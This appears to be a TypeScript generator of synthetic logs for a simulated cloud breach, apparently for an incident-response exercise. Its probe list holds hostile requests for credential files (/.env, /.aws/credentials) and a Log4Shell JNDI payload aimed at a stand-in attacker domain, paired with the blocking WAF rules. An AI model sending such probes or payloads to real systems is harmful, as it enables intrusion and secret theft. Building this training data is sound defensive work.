// The incident as the network saw it. The evening before the key is used, the first attacker address
// probes the shop's web ACL (the managed rules block the worst of it) and scans the backup server, whose
// security group refuses. The next afternoon the backup server looks up the attacker's domain, gets that
// address, and sends it tens of megabytes over HTTPS, minutes before Service_Backup's key is first used
// from it. On day 2 the domain points at the second address, and the server calls out to it again.

import { ATTACKER_IPS } from './incident-script.ts';
import type { NetworkTopology, Vpc, WebAcl } from './network-topology.ts';
import type { ResolverQuery } from './resolver-query-records.ts';
import type { IncidentFlowFact, NetworkIncidentFacts } from './scenario-facts.ts';
import { streamFor } from './seeded-random.ts';
import type { Flow } from './vpc-flow-records.ts';
import type { ManagedRuleGroup, WafRequest } from './waf-request-records.ts';

export const ATTACKER_DOMAIN = 'cdn.backup-sync.example.net.';
const ATTACKER_AGENT = 'python-requests/2.31.0';
const COMMON: ManagedRuleGroup = 'AWSManagedRulesCommonRuleSet';
const BAD_INPUTS: ManagedRuleGroup = 'AWSManagedRulesKnownBadInputsRuleSet';
/** The probe, in order: method, path, query string, and the managed rule that blocked it, if one did. */
const PROBE: readonly (readonly [string, string, string, (readonly [ManagedRuleGroup, string])?])[] = [
  ['GET', '/.env', '', [COMMON, 'RestrictedExtensions_URIPATH']],
  ['GET', '/.git/config', '', [COMMON, 'RestrictedExtensions_URIPATH']],
  ['GET', '/.aws/credentials', '', [COMMON, 'GenericLFI_URIPATH']],
  ['GET', '/robots.txt', ''],
  ['GET', '/admin', ''],
  ['GET', '/backup/', ''],
  [
    'GET',
    '/products',
    'q=%24%7Bjndi%3Aldap%3A%2F%2Fcdn.backup-sync.example.net%2Fa%7D',
    [BAD_INPUTS, 'Log4JRCE_QUERYSTRING'],
  ],
  ['GET', '/api/health', ''],
  ['POST', '/login', ''],
  ['POST', '/login', ''],
  ['GET', '/static/app.js', ''],
  ['GET', '/wp-login.php', '', [BAD_INPUTS, 'ExploitablePaths_URIPATH']],
];
const SCANNED_PORTS = [22, 22, 3389, 5432];
/** Bytes the backup server sent per one-minute flow record, on day 1 and day 2. */
const UPLOADS = [
  ['2024-03-10T13:31:10Z', 24_118_272],
  ['2024-03-10T13:32:10Z', 19_404_800],
  ['2024-03-11T00:58:45Z', 3_145_728],
] as const;
const LOOKUPS = ['2024-03-10T13:31:07Z', '2024-03-11T00:58:41Z'];

export interface IncidentNetwork {
  readonly vpc: Vpc;
  readonly flows: readonly Flow[];
  readonly queries: readonly ResolverQuery[];
  readonly webAcl: WebAcl;
  readonly requests: readonly WafRequest[];
  readonly facts: NetworkIncidentFacts;
}

const seconds = (iso: string): number => Date.parse(iso) / 1000;

export function planIncidentNetwork(seed: number, topology: NetworkTopology): IncidentNetwork {
  const rng = streamFor(seed, 'incident-network');
  const [ip1, ip2] = ATTACKER_IPS;
  const { vpc, instance } = topology.backupServer;
  const webAcl = topology.webAcls[0] as WebAcl;
  const client = { ip: ip1, country: 'RO' };
  const probeStart = Date.parse('2024-03-09T22:12:05Z');
  const requests: WafRequest[] = PROBE.map(([method, uri, args, rule], i) => ({
    timeMs: probeStart + i * 37_000,
    client,
    method,
    uri,
    args,
    userAgent: ATTACKER_AGENT,
    ...(rule === undefined ? {} : { blockedBy: { group: rule[0], rule: rule[1] } }),
  }));

  const flows: Flow[] = SCANNED_PORTS.map((port, i) => {
    const start = seconds('2024-03-09T22:31:10Z') + i * 60;
    return {
      instance,
      direction: 'ingress',
      srcaddr: ip1,
      dstaddr: instance.privateIp,
      srcport: rng.between(40000, 60999),
      dstport: port,
      protocol: 6,
      packets: 2,
      bytes: 88,
      start,
      end: start + 60,
      action: 'REJECT',
      tcpFlags: 2,
    };
  });
  for (const [time, bytes] of UPLOADS) {
    const start = seconds(time);
    const remote = time < '2024-03-11' ? ip1 : ip2;
    const port = rng.between(40000, 60999);
    const packets = Math.ceil(bytes / 1448);
    const acks = Math.ceil(packets / 2);
    const common = { instance, protocol: 6, start, end: start + 60, action: 'ACCEPT', tcpFlags: 27 } as const;
    flows.push(
      {
        ...common,
        direction: 'egress',
        srcaddr: instance.privateIp,
        dstaddr: remote,
        srcport: port,
        dstport: 443,
        packets,
        bytes,
        trafficPath: 8,
      },
      {
        ...common,
        direction: 'ingress',
        srcaddr: remote,
        dstaddr: instance.privateIp,
        srcport: 443,
        dstport: port,
        packets: acks,
        bytes: acks * 52,
      },
    );
  }
  const queries: ResolverQuery[] = LOOKUPS.map((time, i) => ({
    timeMs: Date.parse(time),
    instance,
    name: ATTACKER_DOMAIN,
    type: 'A',
    rcode: 'NOERROR',
    answers: [{ type: 'A', rdata: i === 0 ? ip1 : ip2 }],
    srcport: rng.between(32768, 60999),
  }));

  return {
    vpc,
    flows,
    queries,
    webAcl,
    requests,
    facts: {
      domain: ATTACKER_DOMAIN,
      instance: {
        id: instance.id,
        name: instance.name,
        privateIp: instance.privateIp,
        accountId: vpc.accountId,
        region: vpc.region,
        vpcId: vpc.id,
      },
      lookups: queries.map((q) => ({ time: new Date(q.timeMs).toISOString(), resolvedIp: q.answers[0]?.rdata ?? '' })),
      flows: flows.map(flowFact),
      webAcl: {
        arn: webAcl.arn,
        accountId: webAcl.accountId,
        region: webAcl.region,
        clientIp: ip1,
        requests: requests.length,
        blocked: requests.filter((r) => r.blockedBy !== undefined).length,
      },
    },
  };
}

function flowFact(flow: Flow): IncidentFlowFact {
  return {
    start: new Date(flow.start * 1000).toISOString(),
    direction: flow.direction,
    srcIp: flow.srcaddr,
    dstIp: flow.dstaddr,
    dstPort: flow.dstport,
    action: flow.action,
    bytes: flow.bytes,
  };
}
